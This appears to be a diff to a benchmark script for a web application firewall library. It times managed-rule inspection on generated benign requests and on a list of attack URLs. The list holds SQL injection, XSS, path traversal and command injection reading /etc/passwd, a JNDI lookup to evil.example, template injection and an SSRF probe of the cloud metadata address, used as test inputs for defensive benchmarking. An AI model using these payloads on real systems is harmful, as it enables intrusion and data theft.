@@ -13,6 +13,18 @@ over repeats, with ``_min``/``_max``), ``interpreter_us_per_request``,
 100k list, address parsing included), ``compile_ms`` (100 rules) and
 ``list_build_ms`` (100k entries).
 
+Managed rules (``ManagedRules(paranoia=1).inspect`` on a fresh view, the
+work ``managed_rules()`` does per request): ``managed_us_per_benign_request``
+over browser-like GETs (short path, a few query arguments, ~10 headers, no
+body; user agents and referers from a small pool as in real traffic, session
+ids and argument values fresh per request), ``managed_us_per_attack_request``
+over attack payloads, ``managed_us_per_benign_request_fresh`` with the verdict
+memo emptied before every request (no value seen before: the worst case).
+The baseline, in the same run, is the matcher as it was before screening
+(``tests/filtering/_reference_managed.py``): ``reference_*`` figures and
+``managed_speedup_*`` ratios. Both must block the same requests with the
+same rule id; that is checked before timing.
+
 Usage: ``python bench/rules.py [--quick]`` prints the results as JSON.
 """
 
@@ -32,6 +44,7 @@ sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "src"))
 from edgeline.filtering import (
     ASNList,
     IPRangeSet,
+    ManagedRules,
     RequestView,
     Rule,
     compile_ruleset,
@@ -39,6 +52,139 @@ from edgeline.filtering import (
     parse,
 )
 from edgeline.messages import Request
+
+AGENTS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Safari/537.36",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.4 Safari/605.1.15",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.4 Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/124.0.0.0 Mobile Safari/537.36",
+)
+ATTACKS = (
+    "/search?q=1%27%20OR%20%271%27%3D%271", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+    "/item?id=1%20UNION%20SELECT%20username%2C%20password%20FROM%20users--",
+    "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", "/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd",
+    "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "/page?name=%7B%7B7*7%7D%7D",
+    "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "/.env", "/wp-login.php",
+    "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/user?id=1%20AND%20SLEEP(5)",
+)
+
+
+def make_benign(count: int, seed: int = 5) -> list[Request]:
+    """Return browser-like GETs: short path, a few arguments, ~10 headers, no body."""
+    rng = random.Random(seed)
+    paths = ["/", "/products/running-shoes", "/category/shoes", "/api/v1/items/{n}", "/cart",
+             "/search", "/blog/2024/11/edge-caching", "/static/app.{n}.js"]
+    queries = ["", "page={n}", "color=blue&size={n}&sort=price_asc", "q=running+shoes&page={n}",
+               "utm_source=newsletter&utm_medium=email&utm_campaign=nov-{n}", "id={n}&ref=home"]
+    out = []
+    for _ in range(count):
+        n = rng.randrange(1, 100_000)
+        path = rng.choice(paths).format(n=n)
+        query = rng.choice(queries).format(n=n)
+        headers = [
+            ("host", "shop.example.com"), ("user-agent", rng.choice(AGENTS)),
+            ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
+            ("accept-language", "en-US,en;q=0.9"), ("accept-encoding", "gzip, deflate, br"),
+            ("referer", rng.choice(["https://shop.example.com/", "https://www.google.com/",
+                                    "https://shop.example.com/category/shoes?page=2"])),
+            ("cookie", f"session={n:x}{rng.randrange(1 << 48):012x}; theme=dark; "
+                       f"_ga=GA1.2.{rng.randrange(10**9)}.1700000000"),
+            ("sec-fetch-mode", "navigate"), ("sec-fetch-site", "same-origin"),
+            ("cf-ipcountry", rng.choice(["US", "DE", "FR"])), ("x-requested-with", "XMLHttpRequest"),
+        ]
+        url = "https://shop.example.com" + path + (f"?{query}" if query else "")
+        out.append(Request("GET", url, headers))
+    return out
+
+
+def make_attacks() -> list[Request]:
+    headers = [("host", "shop.example.com"), ("user-agent", AGENTS[0]), ("accept", "*/*")]
+    return [Request("GET", "https://shop.example.com" + target, headers) for target in ATTACKS]
+
+
+def _reference() -> Any:
+    """Return the pre-screening matcher class, or None when the tests are not at hand."""
+    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+    try:
+        from tests.filtering._reference_managed import ManagedRules as Reference
+    except ImportError:
+        return None
+    return Reference
+
+
+def managed(quick: bool) -> dict[str, float]:
+    """Time ManagedRules(1).inspect per benign and per attack request, and the baseline."""
+    benign = make_benign(300 if quick else 1000)
+    attacks = make_attacks()
+    fast = ManagedRules(1)
+    reference_class = _reference()
+    slow = reference_class(1) if reference_class is not None else None
+    for request in benign + attacks:
+        got = fast.inspect(RequestView(request, None, now=0.0))
+        if slow is not None:
+            want = slow.inspect(RequestView(request, None, now=0.0))
+            if (got and (got.id, got.where)) != (want and (want.id, want.where)):
+                raise AssertionError(f"managed rules disagree with the reference on {request}: "
+                                     f"{got} != {want}")
+    if any(fast.inspect(RequestView(r, None, now=0.0)) for r in benign):
+        raise AssertionError("a benign request was blocked")
+    if not all(fast.inspect(RequestView(r, None, now=0.0)) for r in attacks):
+        raise AssertionError("an attack request passed")
+
+    def per_request(rules: Any, requests: list[Request], rounds: int, fresh: bool = False) -> float:
+        samples = []
+        for _ in range(5 if quick else 9):
+            began = time.perf_counter()
+            for _ in range(rounds):
+                for request in requests:
+                    if fresh:
+                        rules._memo.clear()
+                    rules.inspect(RequestView(request, None, now=0.0))
+            samples.append((time.perf_counter() - began) / (rounds * len(requests)) * 1e6)
+        return statistics.median(samples)
+
+    # A fresh request set for the timed rounds: ids and session cookies not seen before.
+    # Their URLs are parsed first, as routing would have (the reference's were, above).
+    timed = make_benign(len(benign) * (5 if quick else 9), seed=6)
+    for request in timed:
+        request.url.query  # noqa: B018
+    chunk = len(benign)
+
+    def steady(rules: Any) -> float:
+        samples = []
+        for start in range(0, len(timed), chunk):
+            began = time.perf_counter()
+            for request in timed[start:start + chunk]:
+                rules.inspect(RequestView(request, None, now=0.0))
+            samples.append((time.perf_counter() - began) / chunk * 1e6)
+        return statistics.median(samples)
+
+    out = {
+        "managed_us_per_benign_request": round(steady(fast), 3),
+        "managed_us_per_benign_request_fresh": round(per_request(fast, benign, 1, fresh=True), 3),
+        "managed_us_per_attack_request": round(per_request(fast, attacks, 20 if quick else 60), 3),
+        "managed_us_per_attack_request_fresh": round(
+            per_request(fast, attacks, 20 if quick else 60, fresh=True), 3),
+    }
+    if slow is not None:
+        ref_benign = per_request(slow, benign[: len(benign) // 4], 1)
+        ref_attack = per_request(slow, attacks, 5 if quick else 15)
+        out.update({
+            "reference_us_per_benign_request": round(ref_benign, 3),
+            "reference_us_per_attack_request": round(ref_attack, 3),
+            "managed_speedup_benign": round(ref_benign / out["managed_us_per_benign_request"], 1),
+            "managed_speedup_benign_fresh": round(
+                ref_benign / out["managed_us_per_benign_request_fresh"], 1),
+            "managed_speedup_attack": round(ref_attack / out["managed_us_per_attack_request"], 2),
+            "managed_speedup_attack_fresh": round(
+                ref_attack / out["managed_us_per_attack_request_fresh"], 2),
+        })
+    return out
 
 
 def make_ip_list(count: int, seed: int = 7) -> list[str]:
@@ -178,6 +324,7 @@ def run(quick: bool = False) -> dict[str, float]:
         "ip_lookup_us": round(statistics.median(lookup_us), 3),
         "compile_ms": round(compile_ms, 2),
         "list_build_ms": round(list_build_ms, 1),
+        **managed(quick),
     }
 
 
